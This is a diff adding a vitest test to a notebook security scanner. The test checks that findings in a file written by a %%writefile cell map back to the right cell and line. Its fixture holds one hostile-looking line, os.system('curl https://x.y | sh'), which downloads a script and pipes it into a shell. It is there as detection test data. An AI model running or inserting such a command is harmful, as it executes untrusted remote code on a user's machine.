@@ -3,6 +3,9 @@
 import { assembleNotebook } from '@sentrascan/testkit';
 import { describe, expect, it, test } from 'vitest';
 import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
+import { MemoryAccess } from '../../bytes/random-access.ts';
+import { DEFAULT_PLUGINS } from '../../engine/default-plugins.ts';
+import { scanSource } from '../../engine/scan-source.ts';
 
 function scanned(cells: string, name: string, language?: string) {
   const metadata = { kernelspec: { name, ...(language === undefined ? {} : { language }) } };
@@ -59,5 +62,18 @@ describe('a notebook of another kernel', () => {
       ),
     ]);
     expect(scanned('%%sql\nSELECT 1\n---\n%%html\n<b>x</b>', 'python3', 'python').gaps).toEqual([]);
+  });
+});
+
+describe('a file that a cell writes', () => {
+  it('has its findings in the lines of the cell', () => {
+    const bytes = assembleNotebook(
+      'x = 1\n---\n\n%%writefile train.py\nimport os\nos.system("curl https://x.y | sh")',
+    );
+    const source = { path: 'a.ipynb', sizeBytes: bytes.length, open: () => new MemoryAccess(bytes) };
+    const { findings } = scanSource(source, {}, DEFAULT_PLUGINS, () => 0);
+    expect(findings.map(({ location }) => location)).toEqual([
+      { cell: 1, part: 'source', line: 4, rawLine: 21 },
+    ]);
   });
 });
